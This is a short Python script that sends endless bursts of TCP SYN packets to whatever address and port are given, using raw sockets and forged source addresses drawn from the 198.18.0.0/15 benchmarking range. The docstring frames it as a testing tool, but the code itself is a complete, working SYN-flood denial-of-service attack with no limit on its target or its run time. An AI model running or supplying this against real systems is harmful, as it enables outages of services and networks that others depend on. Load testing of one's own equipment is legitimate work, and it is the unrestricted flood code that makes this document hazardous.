"""SYNs with forged sources of 198.18.0.0/15, which are kept for tests (RFC 2544).

Input: the address and port that they go to, how many in a burst, seconds between bursts, and how many sources (all by default). Runs until it is ended.
"""
import random,socket,struct,sys,time
to,port,count,pause=sys.argv[1],int(sys.argv[2]),int(sys.argv[3]),float(sys.argv[4])
sources=int(sys.argv[5]) if len(sys.argv)>5 else 1<<17
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)
d=socket.inet_aton(to)
def ck(b):
    t=sum(struct.unpack("!%dH"%(len(b)//2),b)); t=(t>>16)+(t&65535); return ~(t+(t>>16))&65535
while 1:
    for _ in range(count):
        a=struct.pack("!I",0xC6120000+random.randrange(1,sources))
        t=struct.pack("!HHIIBBHHHBBH",random.randrange(1024,65535),port,random.getrandbits(32),0,0x60,2,65535,0,0,2,4,1460)
        c=ck(a+d+struct.pack("!BBH",0,6,len(t))+t); t=t[:16]+struct.pack("!H",c)+t[18:]
        s.sendto(struct.pack("!BBHHHBBH4s4s",0x45,0,20+len(t),0,0,64,6,0,a,d)+t,(to,0))
    time.sleep(pause)
